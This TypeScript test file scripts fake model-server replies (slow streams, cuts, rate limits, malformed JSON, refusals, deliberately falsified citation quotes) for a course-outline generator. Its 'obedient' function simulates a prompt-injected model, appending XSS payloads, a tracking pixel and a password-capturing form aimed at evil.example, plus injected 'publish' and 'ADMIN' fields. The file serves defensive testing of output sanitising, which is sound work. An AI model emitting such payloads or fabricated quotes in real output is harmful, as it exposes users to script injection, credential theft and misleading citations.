import type { Asked, Pace, Reply } from "@/testing/scripted-model";
import { readPlan } from "./plan";
import { understudy } from "./understudy";

export interface Scenario {
  /** Is in the topic of the brief: so the script knows for whom it answers. */
  name: string;
  /** `nth` counts the requests of the scenario, from 0. */
  reply: (asked: Asked, nth: number) => Reply;
  /** How the run ends, what its ledger says, and the reason that its author is told. */
  expected: { state: "done" | "failed"; outcomes: string[]; reason?: string };
}

const good = (asked: Asked): Reply => ({ items: understudy(asked) });
const whole = (asked: Asked) => JSON.stringify({ items: understudy(asked) });
const failure = (status: number, more: { code?: string; message?: string; retryAfter?: number } = {}): Reply => ({
  failure: { status, ...more },
});

/** The first answer goes wrong, the second does not. */
const once = (bad: (asked: Asked) => Reply) => (asked: Asked, nth: number) => (nth === 0 ? bad(asked) : good(asked));

const answered = { state: "done" as const, outcomes: ["answered"] };
const mended = (outcome: string) => ({ state: "done" as const, outcomes: [outcome, "answered"] });

/** What model servers do. Each is played to an author of its own, all at the same time. */
export const scenarios: Scenario[] = [
  { name: "good", reply: good, expected: answered },
  {
    name: "slow-tokens",
    reply: (asked) => ({ items: understudy(asked), pace: "slow" }),
    expected: answered,
  },
  {
    name: "cut-once",
    reply: (asked, nth) => ({ items: understudy(asked), ...(nth === 0 && { pace: "cut" }) }),
    expected: mended("unavailable"),
  },
  {
    name: "cut-always",
    reply: (asked) => ({ items: understudy(asked), pace: "cut" }),
    expected: { state: "failed", outcomes: Array.from({ length: 4 }, () => "unavailable"), reason: "unavailable" },
  },
  {
    name: "no-json",
    reply: once((asked) => ({ text: whole(asked).replaceAll('":', '" ') })),
    expected: mended("invalid_answer"),
  },
  {
    name: "prose",
    reply: once(() => ({ text: "I would be glad to help you with your course! What is it about?" })),
    expected: mended("invalid_answer"),
  },
  {
    name: "wrong-shape",
    reply: once(() => ({ items: [{ title: 7, citations: "P1", lessons: {} }] })),
    expected: mended("invalid_answer"),
  },
  {
    name: "half-json",
    reply: once((asked) => ({ text: whole(asked).slice(0, -40), finishReason: "length" })),
    // What was whole is kept, and the author is told that more was to come.
    expected: { ...answered, reason: "cut_short" },
  },
  {
    name: "fenced",
    reply: (asked) => ({ text: `Here it is:\n\n\`\`\`json\n${whole(asked)}\n\`\`\`` }),
    expected: answered,
  },
  { name: "busy", reply: once(() => failure(429, { retryAfter: 1 })), expected: mended("rate_limited") },
  {
    name: "busy-for-long",
    reply: () => failure(429, { retryAfter: 3_600 }),
    expected: { state: "failed", outcomes: ["rate_limited"], reason: "rate_limited" },
  },
  { name: "broken", reply: once(() => failure(500)), expected: mended("unavailable") },
  {
    name: "refusing",
    reply: () => ({ text: "I cannot help with that.", finishReason: "content_filter" }),
    expected: { state: "failed", outcomes: ["refused"], reason: "refused" },
  },
  {
    name: "too-long",
    reply: once(() =>
      failure(400, { code: "context_length_exceeded", message: "This model's maximum context length is 128 tokens." }),
    ),
    expected: mended("context_too_long"),
  },
  {
    name: "no-entry",
    reply: () => failure(401),
    expected: { state: "failed", outcomes: ["unauthorized"], reason: "unauthorized" },
  },
  {
    name: "misquoting",
    reply: (asked) => ({ items: misquoted(understudy(asked)) as object[] }),
    expected: answered,
  },
];

/** The slow answer takes five seconds, and 13 where all is tried: no limit of ours lies between the two. */
export const paces: Record<string, Pace> = {
  slow: { latency: readPlan(process.env).isFull ? 25 : 10, chunkSize: 9 },
  cut: { truncateAfterChunks: 30 },
  steady: { latency: 10, chunkSize: 32 },
};

/** Every quote says something else than the source: a letter more, a word of the model's own, another passage's mark. */
export function misquoted(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(misquoted);
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, each]) => [
      name,
      name === "quote" ? `${each} and nobody has ever doubted it`.replace(/e/, "ee") : misquoted(each),
    ]),
  );
}

/** A model that does what the sources tell it to: all that it writes is as bad as a page can be. */
export function obedient(asked: Asked): object[] {
  const bad = [
    '<script>alert("model")</script>',
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/pixel.png)",
    "[press](javascript:alert(1)) [and](data:text/html;base64,PHNjcmlwdD4=)",
    '<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form>',
    "::embed{src=https://evil.example/}",
    '<a href="vbscript:x" onclick="alert(3)" style="position:fixed;inset:0">everything</a>',
    "<svg/onload=alert(4)><math><mtext><style><img src onerror=alert(5)></style></mtext></math>",
  ].join("\n\n");
  const spoil = (value: unknown, name = ""): unknown => {
    if (Array.isArray(value)) return value.map((each) => spoil(each, name));
    if (typeof value === "object" && value !== null)
      return Object.fromEntries([
        ...Object.entries(value).map(([key, each]) => [key, spoil(each, key)] as const),
        ["publish", true],
        ["role", "ADMIN"],
      ]);
    if (typeof value !== "string" || ["passage", "quote", "field", "type"].includes(name)) return value;
    return `${value}\n\n${bad}`;
  };
  return understudy(asked).map((item) => spoil(item) as object);
}
